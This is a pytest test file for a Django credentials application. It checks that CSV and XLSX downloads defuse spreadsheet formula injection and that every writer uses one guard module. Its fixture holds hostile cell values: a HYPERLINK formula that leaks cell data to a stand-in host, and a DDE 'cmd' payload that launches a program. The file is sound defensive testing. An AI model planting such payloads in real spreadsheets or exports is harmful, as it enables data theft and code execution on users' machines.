"""Every spreadsheet a person can download keeps text that looks like a formula as text.

Learner, course, major and reason fields hold formulas; each CSV and XLSX download is fetched
the way a person (or an integrating system) fetches it and read back: a CSV cell never starts
with a formula character, an XLSX cell is never a formula and keeps the exact text.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from testamur.accounts.roles import Role
from testamur.api.services import api_token_create
from testamur.core.spreadsheets import FORMULA_START
from testamur.qualifications.models import Major
from testamur.qualifications.services.rules import packaging_rule_load
from testamur.training.models import CourseEnrolment
from tests.credentials.helpers import completed_offer, generated, issue, requested
from tests.factories import packaging_rule_make
from tests.reports.helpers import xlsx_export

pytestmark = pytest.mark.django_db

GIVEN = '=HYPERLINK("http://x.y/?"&J2,"Open")'
FAMILY = "+SUM(1,1)"
EMAIL = "@evil"
STREET = "-2+3"
SUBURB = "\t=1+1"
MAJOR = "=cmd|' /C calc'!A0"
SRC = Path(__file__).resolve().parents[2] / "src" / "testamur"


@pytest.fixture
def world(make_user, django_capture_on_commit_callbacks):
    admin = make_user(Role.ADMIN)
    enrolments = completed_offer(2, units=4)
    learner = enrolments[0].learner
    learner.given_name, learner.family_name = GIVEN, FAMILY
    learner.email, learner.address_line, learner.suburb = EMAIL, STREET, SUBURB
    learner.save()
    credentials = generated(admin, requested(enrolments), django_capture_on_commit_callbacks)
    issue_run, _ = issue(admin, credentials, django_capture_on_commit_callbacks, mail_merge=True)
    qualification = enrolments[0].offer.course
    codes = sorted(qualification.units.values_list("code", flat=True))
    packaging_rule_make(
        qualification,
        total=3,
        core=codes[:2],
        groups=[("E", "Electives", 1, codes[2:3])],
        majors={MAJOR: {"core": codes[3:]}},
    )
    client = Client()
    client.force_login(admin)
    _, secret = api_token_create(user=admin, name="Downloads")
    return {
        "client": client,
        "api": {"Authorization": f"Bearer {secret}"},
        "run": issue_run,
        "offer": enrolments[0].offer,
        "qualification": qualification,
        "admin": admin,
    }


def _downloads(world) -> dict:
    client, offer, run = world["client"], world["offer"], world["run"]
    enrolment_ids = list(CourseEnrolment.objects.filter(offer=offer).values_list("pk", flat=True))
    return {
        "offer enrolments (CSV)": client.post(
            f"/training/offers/{offer.pk}/bulk/",
            {"action": "download_csv", "enrolment": enrolment_ids},
        ),
        "run mail merge (XLSX)": client.get(
            f"/credentials/runs/{run.pk}/file/", {"which": "mail_merge"}
        ),
        "API run mail merge (XLSX)": client.get(
            f"/api/v1/runs/{run.pk}/files/mail-merge", headers=world["api"]
        ),
        "register report (CSV)": client.get("/reports/register/csv/"),
        "register report (XLSX)": xlsx_export(client),
        "API register report (CSV)": client.get(
            "/api/v1/reports/register/csv", headers=world["api"]
        ),
        "packaging rules (CSV)": client.get(
            f"/qualifications/{world['qualification'].pk}/rules/download/"
        ),
    }


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if "csv" in response["Content-Type"]:
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def test_no_download_holds_a_formula(world):
    for name, response in _downloads(world).items():
        assert response.status_code == 200, name
        cells = _cells(response)
        if "csv" in response["Content-Type"]:
            assert [c for c in cells if c.startswith(FORMULA_START)] == [], name
        else:
            assert [c for c in cells if c.startswith("'")] == [], name
        expected = MAJOR if "rules" in name else GIVEN
        assert [c for c in cells if c.lstrip("'").startswith(expected)] != [], name


def test_the_mail_merge_keeps_every_learner_field_exactly(world):
    response = world["client"].get(
        f"/credentials/runs/{world['run'].pk}/file/", {"which": "mail_merge"}
    )
    cells = _cells(response)

    for value in (GIVEN, FAMILY, EMAIL, STREET, SUBURB):
        assert value in cells


def test_a_rule_file_downloaded_loads_back_unchanged(world):
    qualification = world["qualification"]
    response = world["client"].get(f"/qualifications/{qualification.pk}/rules/download/")
    assert "'" + MAJOR in response.content.decode()

    packaging_rule_load(actor=world["admin"], qualification=qualification, content=response.content)

    assert list(Major.objects.values_list("name", flat=True)) == [MAJOR]


def test_no_module_writes_a_spreadsheet_past_the_guard():
    """Every writer goes through core/spreadsheets.py: a new download cannot skip it."""
    unguarded = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            unguarded.append(str(path.relative_to(SRC)))
        if "Workbook(" in text and "xlsx_row(" not in text:
            unguarded.append(str(path.relative_to(SRC)))
    assert unguarded == []
